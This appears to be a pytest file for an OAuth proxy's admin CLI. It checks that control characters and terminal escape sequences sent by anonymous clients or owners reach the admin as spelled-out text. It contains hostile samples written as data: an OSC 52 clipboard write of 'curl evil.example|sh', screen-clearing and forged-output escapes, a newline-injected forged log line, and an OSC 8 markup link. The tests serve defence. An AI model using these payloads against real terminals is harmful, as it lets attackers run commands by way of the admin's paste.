"""Text from the API reaches the admin's terminal as text, never as terminal instructions.

Anyone may put text into what the admin reads later: a `client_id` sent to `/token` is kept in
the request log, an owner writes descriptions. ESC and the C1 controls start sequences a
terminal obeys (clear the screen, forge lines, OSC 8 links, OSC 52 clipboard writes: the
admin's next paste runs the attacker's command). The CLI spells them out in tables, notes, log
lines and errors, and JSON and YAML keep the data exact through their own escapes; the API
refuses control characters in the free text it is given."""

from __future__ import annotations

import json
import os
import pty
import re
import signal
import subprocess
from typing import Any

import httpx
import pytest
import trio
import yaml

from cli.formatting import to_json, to_yaml
from cli.visible import one_line, visible, visible_data
from oauthproxy.serve import Ready
from tests.conftest import venv_bin
from tests.eventually import eventually
from tests.oauth_helpers import REDIRECT_URI
from tests.test_cli_tokens import Cli
from tests.test_cli_tokens import cli as cli  # the fixture, shared
from tests.test_proxies_api import as_new_token

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x1b\\"
"""OSC 52: put `curl evil.example|sh` on the clipboard."""
EVIL = CLIPBOARD + "\x1b[2J\x1b[H\x1b[32mALL GOOD\x1b[0m\x9b2J\u202e"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain — text\twith a tab\nand a line", "plain — text\twith a tab\nand a line"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x9b2J", "\\x9b2J"),
        ("a\x00b\x7fc\rd", "a\\x00b\\x7fc\\x0dd"),
        ("left\u202eright", "left\\u202eright"),
    ],
)
def test_control_characters_are_spelled_out(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible_data({text: [text, {"k": text}, 1, None]}) == {
        shown: [shown, {"k": shown}, 1, None]
    }


def test_a_log_line_spells_out_line_breaks_too() -> None:
    assert one_line("a\nb\tc\u2028d\x1be") == "a\\x0ab\\x09c\\u2028d\\x1be"


FORGED = "09:15:00 203.0.113.77 GET admin.example.com/FORGED-BY-ANONYMOUS HTTP/1.1 200 1.0ms"


async def test_an_anonymous_request_prints_no_line_of_its_own_in_log_follow(
    cli: Cli, gateway: Ready
) -> None:
    """An anonymous write to the admin API with `%0A` in its path: the audit event kept the
    decoded path (a raw newline), and `proxy-client log follow` printed it (`visible` leaves
    newlines), so the operator saw a whole line of the attacker's choosing. The event keeps the
    path percent-encoded now, and a log line spells out newlines and tabs (`one_line`)."""
    process = await trio.lowlevel.open_process(
        [venv_bin("proxy-client"), "log", "follow"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, **cli.env},
    )
    assert process.stdout is not None
    encoded = FORGED.replace(" ", "%20")
    seen = b""
    try:
        with trio.fail_after(30):
            while b"FORGED-BY-ANONYMOUS" not in seen and process.poll() is None:
                # (httpx would re-encode the target: sent raw)
                async with await trio.open_tcp_stream("127.0.0.1", gateway.http_port) as stream:
                    await stream.send_all(
                        f"POST /api/v1/x%0A{encoded} HTTP/1.1\r\nHost: localhost\r\n"
                        "Content-Length: 0\r\nConnection: close\r\n\r\n".encode()
                    )
                    with trio.move_on_after(2):
                        await stream.receive_some()
                with trio.move_on_after(1):
                    seen += await process.stdout.receive_some()
    finally:
        process.send_signal(signal.SIGINT)
        with trio.fail_after(10):
            await process.wait()
    lines = seen.decode(errors="replace").splitlines()
    assert any("FORGED-BY-ANONYMOUS" in line for line in lines), lines
    assert not [line for line in lines if line.startswith("09:15:00 203.0.113.77")], lines


def test_json_and_yaml_keep_the_data_and_escape_the_controls() -> None:
    data: Any = [{"client_name": EVIL, "note": "naïve"}]
    for text, load in ((to_json(data), json.loads), (to_yaml(data), yaml.safe_load)):
        assert RAW.search(text) is None, repr(text)
        assert load(text) == data
    assert "naïve" in to_yaml([{"note": "naïve"}])  # (non-ASCII as it is when nothing is raw)


async def _log_the_attack(gateway: Ready) -> None:
    """An anonymous `POST /token` whose client_id carries the escapes: the request log keeps
    the client_id as sent."""
    async with httpx.AsyncClient(base_url=gateway.api_url) as anonymous:
        refused = await anonymous.post(
            "/token", data={"grant_type": "authorization_code", "client_id": EVIL, "code": "x"}
        )
    assert refused.status_code in (400, 401), refused.text


async def test_an_anonymous_client_id_reaches_the_admins_log_views_as_text(
    cli: Cli, gateway: Ready
) -> None:
    await _log_the_attack(gateway)

    async def logged() -> str | None:
        shown = await cli.ok("log", "oauth", "127.0.0.1")  # (the view with the client_id)
        return shown if "ALL GOOD" in shown else None

    shown = await eventually(logged, what="the attack in the request log")
    assert RAW.search(shown) is None, repr(shown)
    assert "\\x1b]52;c;" in shown  # (shown, spelled out)
    for view in (("log", "recent"), ("log", "ip", "127.0.0.1")):
        assert RAW.search(await cli.ok(*view)) is None
    for machine in ("json", "yaml"):  # (CSV: spelled out on a terminal, exact into a file)
        assert RAW.search(await cli.ok("--format", machine, "log", "recent")) is None, machine
    entries = await cli.json("log", "recent")  # JSON keeps the data exact
    assert any(str(entry.get("client_id")).startswith(CLIPBOARD) for entry in entries)


async def test_on_a_real_terminal_no_escape_sequence_arrives(cli: Cli, gateway: Ready) -> None:
    """On a pty rich styles its output: the only ESC sequences are its own colours (CSI ... m),
    never the attacker's clipboard write, screen clearing or hyperlink."""
    await _log_the_attack(gateway)
    await eventually(lambda: _contains(cli, "ALL GOOD"), what="the attack in the request log")
    for output in ("table", "csv"):
        seen = await _on_a_terminal(cli, "--format", output, "log", "oauth", "127.0.0.1")
        assert b"ALL GOOD" in seen, seen
        sequences = re.findall(rb"\x1b[^\[]|\x1b\[[0-9;]*[^0-9;m]|\xc2[\x80-\x9f]", seen)
        assert sequences == [], (output, sequences)  # (rich's own: only SGR, ESC [ ... m)


async def _on_a_terminal(cli: Cli, *args: str) -> bytes:
    """What `proxy-client *args` writes to a pseudo-terminal (wide: no cell is cut)."""
    leader, follower = pty.openpty()
    try:
        process = await trio.run_process(
            [venv_bin("proxy-client"), *args],
            stdout=follower,
            stderr=follower,
            env={**cli.env, "TERM": "xterm-256color", "COLUMNS": "400"},
            check=False,
        )
        os.close(follower)
        follower = -1
        seen = b""
        while chunk := _read(leader):
            seen += chunk
    finally:
        if follower != -1:
            os.close(follower)
        os.close(leader)
    assert process.returncode == 0, seen
    return seen


async def _contains(cli: Cli, text: str) -> bool:
    return text in await cli.ok("log", "oauth", "127.0.0.1")


def _read(fd: int) -> bytes:
    try:
        return os.read(fd, 65536)
    except OSError:  # (the pty's end, once the process has closed it)
        return b""


async def test_free_text_with_control_characters_is_refused(
    api: httpx.AsyncClient, gateway: Ready
) -> None:
    """What the API is given to show people later holds no control characters: a 4xx that
    names the field, and nothing stored."""
    async with httpx.AsyncClient(base_url=gateway.api_url) as anonymous:
        registered = await anonymous.post(
            "/register", json={"client_name": EVIL, "redirect_uris": [REDIRECT_URI]}
        )
    assert registered.status_code == 400, registered.text
    assert registered.json()["error"] == "invalid_client_metadata"
    assert "client_name" in registered.json()["error_description"]
    async with as_new_token(api, gateway, "mallory") as mallory:
        made = await mallory.post(
            "/api/v1/proxy/targets/",
            json={"hostname": "m.example.com", "target_url": "http://203.0.113.9/"},
        )
        assert made.status_code == 201, made.text
        route = {"path_pattern": "/m/", "target_type": "url",
                 "target_value": "http://203.0.113.9/", "scope": "proxy",
                 "proxy_hostnames": ["m.example.com"]}  # fmt: skip
        for path, body, field in [
            ("/api/v1/routes/", {**route, "description": EVIL}, "description"),
            ("/api/v1/routes/", {**route, "path_pattern": "/m/" + EVIL}, "path_pattern"),
            ("/api/v1/services/external",
             {"service_name": "m-svc", "target_url": "http://203.0.113.9/", "description": EVIL},
             "description"),
        ]:  # fmt: skip
            refused = await mallory.post(path, json=body)
            assert refused.status_code == 422, refused.text
            assert field in refused.text
        email = await mallory.put(
            "/api/v1/tokens/email", json={"cert_email": "x\x1b[2J@evil.example"}
        )
        assert email.status_code == 422, email.text
        assert (await mallory.get("/api/v1/routes/")).json() == []
        assert (await mallory.get("/api/v1/services/external")).json() == []
        written = await mallory.post(
            "/api/v1/routes/", json={**route, "description": "fine\ttext\n"}
        )
        assert written.status_code == 201, written.text


LINK = "[link=https://evil.example/pwn]docs[/link]"
"""Rich console markup: an OSC 8 hyperlink to the owner's site, shown as the word `docs`."""
OSC8 = b"\x1b]8;"
NOT_A_COLOUR = re.compile(rb"\x1b[^\[]|\x1b\[[0-9;]*[^0-9;m]")
"""Any ESC sequence but the CLI's own colours (SGR, ESC [ ... m)."""


async def _owner_metadata(api: httpx.AsyncClient, gateway: Ready, metadata: dict[str, str]) -> None:
    async with as_new_token(api, gateway, "mallory") as mallory:
        made = await mallory.post(
            "/api/v1/proxy/targets/",
            json={"hostname": "m.example.com", "target_url": "http://203.0.113.9/"},
        )
        assert made.status_code == 201, made.text
        described = await mallory.post(
            "/api/v1/proxy/targets/m.example.com/mcp",
            json={"resource_custom_metadata": metadata},
        )
        assert described.status_code in (200, 201), described.text


async def test_an_owners_field_name_is_no_markup_in_the_admins_terminal(
    cli: Cli, api: httpx.AsyncClient, gateway: Ready
) -> None:
    """Field names (a custom-metadata key, a client_id counted by client) were read as rich
    console markup: an owner's key `[link=...]docs[/link]` became an OSC 8 hyperlink in the
    admin's `proxy resource show` and `proxy show --all`, and a key `[/x]` made both fail
    (`MarkupError`) (an attack hunt). The CLI's consoles read no markup now."""
    await _owner_metadata(api, gateway, {LINK: "see the docs", "[/x]": "v"})
    for view in (
        ("proxy", "resource", "show", "m.example.com"),
        ("proxy", "show", "m.example.com", "--all"),
    ):
        seen = await _on_a_terminal(cli, *view)
        assert b"[/x]" in seen and b"[link=" in seen, seen
        assert OSC8 not in seen and not NOT_A_COLOUR.findall(seen), (view, seen)


async def test_redis_cli_prints_no_escape_sequence_an_anonymous_client_sent(
    gateway: Ready, empty_redis: str, tmp_path: Any
) -> None:
    """`oauthproxy redis-cli` (`just redis-cli`, how docs/logs.md reads the request log) printed
    Redis's replies as they were: an anonymous `client_id` with an OSC 52 clipboard write,
    indexed by the request log, reached the admin's terminal (an attack hunt). Control
    characters and line breaks are spelled out now, as in the CLI's log lines."""
    await _log_the_attack(gateway)
    env = {
        **{k: v for k, v in os.environ.items() if k != "REDIS_PASSWORD"},
        "REDIS_URL": empty_redis.rstrip("/") + "/1",  # (REQUEST_LOG_REDIS_DB)
        "OAUTHPROXY_DATA_DIR": str(tmp_path / "cli-data"),
    }

    async def keys() -> bytes | None:
        done = await trio.run_process(
            [venv_bin("oauthproxy"), "redis-cli", "KEYS", "idx:req:client:*"],
            capture_stdout=True,
            capture_stderr=True,
            env=env,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout if b"ALL GOOD" in done.stdout else None

    # (each check starts a Python process: seconds apiece on a loaded CI machine)
    shown = await eventually(keys, what="the attack's client index", within=60)
    assert b"\x1b" not in shown and b"\\x1b]52;c;" in shown, shown
